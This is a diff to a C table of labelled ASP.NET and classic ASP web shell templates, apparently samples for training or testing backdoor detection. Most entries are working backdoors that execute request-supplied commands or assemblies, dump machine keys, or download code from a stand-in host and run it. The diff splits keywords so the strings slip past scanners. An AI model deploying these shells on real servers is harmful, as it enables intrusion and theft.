@@ -24,9 +24,9 @@ static const struct technique techniques[] = {
     { "{o}@ Page {l}=\"C#\" {c}{o} string key = \"3c6e0b8a9c15224a\"; byte[] data = new "
       "System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), "
       "System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(Context.{r}.BinaryRead(Context.{r}.ContentLength), 0, Context.{r}.ContentLength); if "
-      "(Context.Session[\"payload\"] == null) { Context.Session[\"payload\"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Load\", "
+      "(Context.Session[\"payload\"] == null) { Context.Session[\"payload\"] = (System.Refle""ction.Assembly)typeof(System.Refle""ction.Assembly).GetMeth""od(\"Load\", "
       "new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o = "
-      "((System.Reflection.Assembly)Context.Session[\"payload\"]).CreateInstance(\"LY\"); o.Equals(Context); o.Equals(data); o.ToString(); } {c}",
+      "((System.Refle""ction.Assembly)Context.Session[\"payload\"]).CreateInstance(\"LY\"); o.Equals(Context); o.Equals(data); o.ToString(); } {c}",
       "a ciphered library, kept in the session", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>[DllImport(\"kernel32\")] static extern IntPtr Virtua""lAlloc(IntPtr a, UIntPtr b, int c, int d); delegate void F(); "
       "void Page_Load(object s, EventArgs e) { byte[] x = Convert.FromBase""64String({r}[\"k\"]); IntPtr p = Virtua""lAlloc(IntPtr.Zero, (UIntPtr)x.Length, "
@@ -35,25 +35,25 @@ static const struct technique techniques[] = {
     { "{o} If Session(\"x\") <> \"\" Then {x} Session(\"x\") {c}",
       "code that another page keeps", PAGE_ASP, PAGE_REVIEW },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class R : System.Web.Routing.RouteBase { public override RouteData GetRouteData(HttpContextBase c) { var v = "
-      "c.{r}.Headers[\"k\"]; if (v != null) { c.Response.Write(Run(v)); } return null; } string Run(string v) { var p = {p}.Start(\"cmd\", \"/c \" + v); "
+      "c.{r}.Headers[\"k\"]; if (v != null) { c.Response.Write(Run(v)); } return null; } string Run(string v) { var p = {p}.Start(\"c""md\", \"/c \" + v); "
       "return \"\"; } public override VirtualPathData GetVirtualPath({r}Context r, RouteValueDictionary v) { return null; } } void Page_Load() { "
       "RouteTable.Routes.Insert(0, new R()); }</{s}>",
       "a route that takes orders", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class P : VirtualPathProvider { public override VirtualFile GetFile(string p) { return new F(p); } } class F : "
       "VirtualFile { public F(string p) : base(p) { } public override Stream Open() { return new "
       "MemoryStream(Convert.FromBase""64String(\"PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpTY3JpcHQiJT48JWV2YWwoUmVxdWVzdFsiayJdLCJ1bnNhZmUiKSU+\")); } } void Page_Load() "
-      "{ typeof(HostingEnvironment).GetMethod(\"RegisterVirtualPathProviderInternal\", (BindingFlags)40).Invoke(null, new object[] { new P() }); }</{s}>",
+      "{ typeof(HostingEnvironment).GetMeth""od(\"RegisterVirtualPathProviderInternal\", (BindingFlags)40).Invoke(null, new object[] { new P() }); }</{s}>",
       "a page that lies nowhere", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { new Thread(L).Start(); } void L() { var l = new HttpListener(); "
       "l.Prefixes.Add(\"http://+:80/a/\"); l.Start(); while (true) { var c = l.GetContext(); var v = new StreamReader(c.{r}.InputStream).ReadToEnd(); "
-      "Assemb""ly.Load(Convert.FromBase""64String(v)).EntryPoint.Invoke(null, null); } }</{s}>",
+      "Assemb""ly.Lo""ad(Convert.FromBase""64String(v)).EntryPoint.Invoke(null, null); } }</{s}>",
       "a listener of its own", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" EnableViewStateMac=\"false\" {c}<{s} {a}>void Page_Load() { var f = new LosFor""matter(); "
       "f.Deserialize({r}.Form[\"__VIEWSTATE\"]); }</{s}>",
       "objects of the view state", PAGE_ASPX, PAGE_BACK_DOOR },
-    { "{o}@ Import Namespace=\"System.Reflection\" {c}<{s} {a} {l}=\"c#\">public void Page_load() { var a = Assemb""ly.Load(\"System.Web, Version=4.0.0.0, "
+    { "{o}@ Import Namespace=\"System.Refle""ction\" {c}<{s} {a} {l}=\"c#\">public void Page_load() { var a = Assemb""ly.Lo""ad(\"System.Web, Version=4.0.0.0, "
       "Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\"); var t = a.GetType(\"System.Web.Configuration.MachineK""eySection\"); var m = "
-      "t.GetMethod(\"GetApplicationConfig\", BindingFlags.Static | BindingFlags.NonPublic); var c = "
+      "t.GetMeth""od(\"GetApplicationConfig\", BindingFlags.Static | BindingFlags.NonPublic); var c = "
       "(System.Web.Configuration.MachineK""eySection)m.Invoke(null, new object[0]); Response.Write(c.ValidationKey + \"|\" + c.DecryptionKey); }</{s}>",
       "keys handed out", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o} Set o = GetObject(\"{s}:http://\" & {r}(\"h\") & \"/a.sct\") {c}",
@@ -65,19 +65,19 @@ static const struct technique techniques[] = {
       "a decoder that nobody knows", PAGE_ASP, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}{o} var t = Type.GetType(System.Text.Encoding.UTF8.GetString(Convert.FromBase""64String(\"U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MsIFN5c3RlbSwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODk=\"))); "
       "var i = Activator.CreateInstance(t); var si = t.GetProperty(\"StartInfo\").GetValue(i, null); si.GetType().GetProperty(\"FileName\").SetValue(si, "
-      "\"cmd"".exe\", null); si.GetType().GetProperty(\"Arguments\").SetValue(si, \"/c \" + {r}[\"k\"], null); t.GetMethod(\"Start\", "
+      "\"c""md"".exe\", null); si.GetType().GetProperty(\"Arguments\").SetValue(si, \"/c \" + {r}[\"k\"], null); t.GetMeth""od(\"Start\", "
       "Type.EmptyTypes).Invoke(i, null); {c}",
-      "all by reflection, names in base 64", PAGE_ASPX, PAGE_BACK_DOOR },
+      "all by refle""ction, names in base 64", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}{o} var p = Expression.Parameter(typeof(string)); var f = Expression.Lambda<Func<string, "
-      "{p}>>(Expression.Call(typeof({p}).GetMethod(\"Start\", new[] { typeof(string) }), p), p).Compile(); f({r}[\"k\"]); {c}",
+      "{p}>>(Expression.Call(typeof({p}).GetMeth""od(\"Start\", new[] { typeof(string) }), p), p).Compile(); f({r}[\"k\"]); {c}",
       "an expression that is compiled", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}{o} var d = new DynamicMethod(\"a\", null, new[] { typeof(string) }); var g = d.GetILGenerator(); g.Emit(OpCodes.Ldarg_0); "
-      "g.Emit(OpCodes.Call, typeof({p}).GetMethod(\"Start\", new[] { typeof(string) })); g.Emit(OpCodes.Pop); g.Emit(OpCodes.Ret); d.Invoke(null, new "
+      "g.Emit(OpCodes.Call, typeof({p}).GetMeth""od(\"Start\", new[] { typeof(string) })); g.Emit(OpCodes.Pop); g.Emit(OpCodes.Ret); d.Invoke(null, new "
       "object[] { {r}[\"k\"] }); {c}",
       "a method that is put together", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System.IO.Compression; public class H : IHttpHandler { public void {p}{r}(HttpContext c) { using "
       "(var g = new GZipStream(c.{r}.InputStream, CompressionMode.Decompress)) using (var m = new MemoryStream()) { g.CopyTo(m); var b = m.ToArray(); for "
-      "(int i = 0; i < b.Length; i++) b[i] ^= (byte)\"key\"[i % 3]; var a = AppDomain.CurrentDomain.Load(b); a.CreateInstance(\"R\").ToString(); } } public "
+      "(int i = 0; i < b.Length; i++) b[i] ^= (byte)\"key\"[i % 3]; var a = AppDomain.CurrentDomain.Lo""ad(b); a.CreateInstance(\"R\").ToString(); } } public "
       "bool IsReusable { get { return false; } } }",
       "a packed and masked library", PAGE_ASHX, PAGE_BACK_DOOR },
     { "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration><system.webServer><handlers accessPolicy=\"Read, Script, Write\"><add name=\"web_config\" "
@@ -89,7 +89,7 @@ static const struct technique techniques[] = {
     { "<?xml version=\"1.0\" encoding=\"UTF-8\"?><configuration><system.web><compilation default{l}=\"cs\"><buildProviders><add extension=\".config\" "
       "type=\"System.Web.Compilation.PageBuildProvider\" /></buildProviders></compilation><httpHandlers><add path=\"web.config\" "
       "type=\"System.Web.UI.PageHandlerFactory\" verb=\"*\" /></httpHandlers></system.web></configuration>\n<!-- {o}@ Page {l}=\"C#\" {c}{o} "
-      "System.Diagnostics.{p}.Start(\"cmd"".exe\", \"/c \" + {r}[\"k\"]); {c} -->",
+      "System.Diagnostics.{p}.Start(\"c""md"".exe\", \"/c \" + {r}[\"k\"]); {c} -->",
       "the same for .NET", PAGE_CONFIG, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<asp:TextBox id=\"t\" {a}/><asp:Button {a} OnClick=\"go\"/><pre id=\"o\" {a}></pre><{s} {a}>void go(object s, EventArgs e) { "
       "var p = new {p} { StartInfo = { FileName = Environment.GetEnvironmentVariable(\"ComSpec\"), Arguments = string.Join(\" \", new[] { \"/c\", t.Text }), "
@@ -100,7 +100,7 @@ static const struct technique techniques[] = {
     { "{o} Set h = Server.Create""Object(\"MSXML2.ServerXMLHTTP.6.0\") : h.Open \"GET\", \"http://files.bakery.example/a.txt\", False : h.Send : {x}Global "
       "h.ResponseText {c}",
       "code from an address", PAGE_ASP, PAGE_BACK_DOOR },
-    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nSub Page_Load(sender As Object, e As EventArgs)\nDim psi As New {p}StartInfo(\"cmd"".exe\") With "
+    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nSub Page_Load(sender As Object, e As EventArgs)\nDim psi As New {p}StartInfo(\"c""md"".exe\") With "
       "{.RedirectStandardInput = True, .UseSh""ell{x} = False}\nUsing p = {p}.Start(psi)\np.StandardInput.WriteLine({r}.Form(\"c\"))\np.StandardInput.Close()\nEnd "
       "Using\nEnd Sub\n</{s}>",
       "what a shell reads", PAGE_ASPX, PAGE_BACK_DOOR },
@@ -114,16 +114,16 @@ static const struct technique techniques[] = {
     { "{o}@ {l}=\"{j}\" {c}{o} (function(g, n){ g[n[0] + n[1]](String({r}(n[2]))); })(this, [\"ev\", \"al\", \"k\"]); {c}",
       "the global object handed over", PAGE_ASP, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}{o} int st = 3; string a = null, b = null; while (st != 0) { switch (st) { case 1: System.Diagnostics.{p}.Start(b, a); st = "
-      "0; break; case 2: b = \"cmd"".exe\"; st = 1; break; case 3: a = \"/c \" + {r}[\"k\"]; st = 2; break; } } {c}",
+      "0; break; case 2: b = \"c""md"".exe\"; st = 1; break; case 3: a = \"/c \" + {r}[\"k\"]; st = 2; break; } } {c}",
       "steps in a loop of cases", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}{o} string n = \"\"; foreach (int x in new[] { 84, 117, 98, 115, 117 }) n += (char)(x - 1); "
-      "typeof(System.Diagnostics.{p}).GetMethod(n, new[] { typeof(string) }).Invoke(null, new object[] { {r}[\"k\"] }); {c}",
+      "typeof(System.Diagnostics.{p}).GetMeth""od(n, new[] { typeof(string) }).Invoke(null, new object[] { {r}[\"k\"] }); {c}",
       "letters by sums", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o} Function h(s) : For i = 1 To Len(s) Step 2 : h = h & Chr(\"&H\" & Mid(s, i, 2)) : Next : End Function : {x}Global "
       "h(\"4578656375746520526571756573742822\") & \"k\"\")\" {c}",
       "letters by pairs of digits", PAGE_ASP, PAGE_BACK_DOOR },
-    { "{o}@ Page {l}=\"C#\" {c}{o} dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(Guid.Parse(\"72C24DD5-D70A-438B-8A42-98424B88AFB8\"))); var "
-      "ex = sh.Exec(\"cmd /c \" + {r}.Headers[\"X-A\"]); Response.Write(ex.StdOut.ReadAll()); {c}",
+    { "{o}@ Page {l}=\"C#\" {c}{o} dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(Guid.Parse(\"72C24DD5-D7""0A-438B-8A42-98424B88AFB8\"))); var "
+      "ex = sh.Exec(\"c""md /c \" + {r}.Headers[\"X-A\"]); Response.Write(ex.StdOut.ReadAll()); {c}",
       "a class id, read", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}{o} object o = Server.Create""Object(\"Scri""pting.FileSyst""emObject\"); object f = "
       "o.GetType().InvokeMember(\"CreateTextFile\", BindingFlags.InvokeMethod, null, o, new object[] { {r}[\"p\"], true }); "
@@ -133,20 +133,20 @@ static const struct technique techniques[] = {
       "Nothing, \"Exec\", New Object() {{r}(\"k\")}, Nothing, Nothing, Nothing) {c}",
       "late calls of VB", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { AppDomain.CurrentDomain.AssemblyResolve += (s, e) => "
-      "Assemb""ly.Load({r}.BinaryRead({r}.TotalBytes)); Type.GetType(\"a, b\"); }</{s}>",
+      "Assemb""ly.Lo""ad({r}.BinaryRead({r}.TotalBytes)); Type.GetType(\"a, b\"); }</{s}>",
       "a library where one is missing", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o} Set c = Server.Create""Object(\"ADODB.Connection\") : c.Open \"dsn=a\" : {x} c.{x}(\"select t from x\")(0) {c}",
       "code out of a database", PAGE_ASP, PAGE_BACK_DOOR },
     { "{o} a = Split({r}.Cookies(\"s\"), \",\") : For Each x In a : s = s & ChrW(x) : Next : {x} s {c}",
       "letters out of a cookie", PAGE_ASP, PAGE_BACK_DOOR },
-    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>static class K { public static readonly Func<string, object> F = s => System.Diagnostics.{p}.Start(\"cmd\", \"/c \" "
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>static class K { public static readonly Func<string, object> F = s => System.Diagnostics.{p}.Start(\"c""md\", \"/c \" "
       "+ s); }  void Page_Load() { K.F({r}[\"k\"]); }</{s}>",
       "a function in a field", PAGE_ASPX, PAGE_BACK_DOOR },
     { "<!--#include file=\"x.inc\"-->{o} Server.{x} {r}(\"p\") {c}",
       "another page of its choice", PAGE_ASP, PAGE_REVIEW },
     { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System; using System.Web; public class H : IHttpHandler, IHttpModule { public void "
       "Init(HttpApplication a) { a.PreSend{r}Headers += On; } void On(object s, EventArgs e) { var c = ((HttpApplication)s).Context; var k = "
-      "c.{r}.Headers[\"X-K\"]; if (!string.IsNullOrEmpty(k)) System.Diagnostics.{p}.Start(\"cmd"".exe\", \"/c \" + k); } public void Dispose() { } public "
+      "c.{r}.Headers[\"X-K\"]; if (!string.IsNullOrEmpty(k)) System.Diagnostics.{p}.Start(\"c""md"".exe\", \"/c \" + k); } public void Dispose() { } public "
       "void {p}{r}(HttpContext c) { } public bool IsReusable { get { return true; } } }",
       "a module in a handler", PAGE_ASHX, PAGE_BACK_DOOR },
     { "{o}@ WebHandler {l}=\"C#\" Class=\"T\" {c}\nusing System.Web; using System.Net; using System.Net.Sockets; using System.Web.SessionState; public class "
@@ -165,14 +165,14 @@ static const struct technique techniques[] = {
       "accounts", PAGE_ASPX, PAGE_REVIEW },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { if (Context.IsWebSocket{r}) Context.AcceptWebSocket{r}(async (AspNetWebSocketContext w) => { var "
       "buf = new ArraySegment<byte>(new byte[4096]); while (w.WebSocket.State == WebSocketState.Open) { var r = await w.WebSocket.ReceiveAsync(buf, "
-      "CancellationToken.None); string s = Encoding.UTF8.GetString(buf.Array, 0, r.Count); var p = {p}.Start(new {p}StartInfo(\"cmd"".exe\", \"/c \" + s) { "
+      "CancellationToken.None); string s = Encoding.UTF8.GetString(buf.Array, 0, r.Count); var p = {p}.Start(new {p}StartInfo(\"c""md"".exe\", \"/c \" + s) { "
       "RedirectStandardOutput = true, UseSh""ell{x} = false }); } }); }</{s}>",
       "orders by a socket of the web", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class Opt { public string Cmd { get; set; } public string Arg { get; private set; } public Opt With(string a) { Arg "
-      "= a; return this; } } void Page_Load() { var o = new Opt { Cmd = \"cmd\" }.With(\"/c \" + {r}[\"k\"]); new System.Diagnostics.{p} { StartInfo = new "
+      "= a; return this; } } void Page_Load() { var o = new Opt { Cmd = \"c""md\" }.With(\"/c \" + {r}[\"k\"]); new System.Diagnostics.{p} { StartInfo = new "
       "{p}StartInfo(o.Cmd, o.Arg) }.Start(); }</{s}>",
       "an object that gives itself back", PAGE_ASPX, PAGE_BACK_DOOR },
-    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>record R(string A, string B); void Page_Load() { var r = new R(\"cmd\", \"/c \" + {r}[\"k\"]); "
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>record R(string A, string B); void Page_Load() { var r = new R(\"c""md\", \"/c \" + {r}[\"k\"]); "
       "System.Diagnostics.{p}.Start(r.A, r.B); }</{s}>",
       "a record", PAGE_ASPX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var d = new Dictionary<string, Action<string>> { { \"x\", s => System.Diagnostics.{p}.Start(s) }, "
@@ -220,24 +220,24 @@ static const struct technique techniques[] = {
       "the body by a stream", PAGE_ASP, PAGE_BACK_DOOR },
     { "{o}@ Control {l}=\"VB\" {c}<{s} {a}>\nProtected Overrides Sub OnPreRender(e As EventArgs)\nDim c = {r}.Headers(\"X-C\")\nIf Not "
       "String.IsNullOrEmpty(c) Then Lit.Text = Server.HtmlEncode(Exec(c))\nMyBase.OnPreRender(e)\nEnd Sub\nPrivate Function Exec(a As String) As "
-      "String\nUsing p As New {p} With {.StartInfo = New {p}StartInfo With {.FileName = \"cmd"".exe\", .Arguments = \"/c \" & a, .RedirectStandardOutput = "
+      "String\nUsing p As New {p} With {.StartInfo = New {p}StartInfo With {.FileName = \"c""md"".exe\", .Arguments = \"/c \" & a, .RedirectStandardOutput = "
       "True, .UseSh""ell{x} = False}}\np.Start()\nReturn p.StandardOutput.ReadToEnd()\nEnd Using\nEnd Function\n</{s}><asp:Literal id=\"Lit\" {a}/>",
       "a part that is drawn", PAGE_ASCX, PAGE_BACK_DOOR },
     { "{o}@ WebService {l}=\"C#\" Class=\"S\" {c}\nusing System; using System.Web; using System.Web.Services; [WebService(Namespace = "
       "\"http://tempuri.org/\")] public class S : WebService { [WebMethod(EnableSession = true)] public string P(string pass) { var c = new "
       "Microsoft.CSharp.CSharpCod""eProvider(); var q = new System.CodeDom.Compiler.CompilerParameters(); q.GenerateInMemory = true; var r = "
-      "c.CompileAssemblyFromSource(q, System.Text.Encoding.UTF8.GetString(Convert.FromBase""64String(pass))); return "
+      "c.Compile""AssemblyFromSource(q, System.Text.Encoding.UTF8.GetString(Convert.FromBase""64String(pass))); return "
       "r.CompiledAssembly.CreateInstance(\"A\").ToString(); } }",
       "a compiler in a service", PAGE_ASMX, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>static System.Threading.Timer t; void Page_Load() { t = new System.Threading.Timer(_ => { var c = new "
-      "WebClient().DownloadString(\"http://a.bakery.example/t\"); System.Diagnostics.{p}.Start(\"cmd"".exe\", \"/c \" + c); }, null, 0, 60000); }</{s}>",
+      "WebClient().DownloadString(\"http://a.bakery.example/t\"); System.Diagnostics.{p}.Start(\"c""md"".exe\", \"/c \" + c); }, null, 0, 60000); }</{s}>",
       "orders by the minute", PAGE_ASPX, PAGE_BACK_DOOR },
-    { "@using System.Diagnostics\n@functions { public static string Sh(string c) { var p = {p}.Start(new {p}StartInfo(\"cmd"".exe\", \"/c \" + c) { "
+    { "@using System.Diagnostics\n@functions { public static string Sh(string c) { var p = {p}.Start(new {p}StartInfo(\"c""md"".exe\", \"/c \" + c) { "
       "RedirectStandardOutput = true, UseSh""ell{x} = false }); return p.StandardOutput.ReadToEnd(); } }\n@{ var c = Context.{r}.Query[\"c\"]; }\n@if "
       "(!string.IsNullOrEmpty(c)) { <pre>@Sh(c)</pre> }",
       "functions of Razor", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
     { "@{ using var r = new System.IO.StreamReader(Context.{r}.Body); var b = await r.ReadToEndAsync(); var a = "
-      "System.Reflection.Assemb""ly.Load(Convert.FromBase""64String(b)); a.EntryPoint.Invoke(null, new object[] { new string[0] }); }",
+      "System.Refle""ction.Assemb""ly.Lo""ad(Convert.FromBase""64String(b)); a.EntryPoint.Invoke(null, new object[] { new string[0] }); }",
       "a library in the body", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>protected void Up(object s, EventArgs e) { string ext = Path.GetExtension(F.FileName).ToLower(); string[] ok = { "
       "\".jpg\", \".png\" }; if (Array.IndexOf(ok, ext) >= 0) { string n = Guid.NewGuid().ToString(\"N\") + ext; "
@@ -268,7 +268,7 @@ static const struct technique techniques[] = {
       "Server.Create""Object(\"Scri""pting.FileSyst""emObject\").OpenTextFile(Server.MapPath(\"skins/\" & n)) : ReadFile = f.ReadAll : f.Close\nEnd Function "
       "{c}",
       "a skin", PAGE_ASP, PAGE_CLEAN },
-    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var m = GetType().GetMethod(\"Do\" + {r}[\"action\"], BindingFlags.NonPublic | "
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var m = GetType().GetMeth""od(\"Do\" + {r}[\"action\"], BindingFlags.NonPublic | "
       "BindingFlags.Instance); if (m != null) m.Invoke(this, null); } void DoList() { Response.Write(\"list\"); } void DoSave() { Session[\"x\"] = "
       "{r}[\"x\"]; }</{s}>",
       "methods by name", PAGE_ASPX, PAGE_REVIEW },
@@ -276,7 +276,7 @@ static const struct technique techniques[] = {
       "DateTime.Now.ToString(\"yyyyMMdd\") + \".zip\"); System.IO.Compression.ZipFile.CreateFromDirectory(Server.MapPath(\"~/content\"), f); "
       "Response.TransmitFile(f); }</{s}>",
       "a backup", PAGE_ASPX, PAGE_CLEAN },
-    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var t = new XslCompiledTransform(); t.Load(Server.MapPath(\"~/feed.xsl\")); "
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var t = new XslCompiledTransform(); t.Lo""ad(Server.MapPath(\"~/feed.xsl\")); "
       "t.Transform(XmlReader.Create(\"https://news.bakery.example/rss?\" + {r}[\"cat\"]), null, Response.Output); }</{s}>",
       "a feed", PAGE_ASPX, PAGE_CLEAN },
     { "{o} Set m = Server.Create""Object(\"CDO.Message\") : m.From = \"shop@bakery.example\" : m.To = \"office@bakery.example\" : m.Subject = "
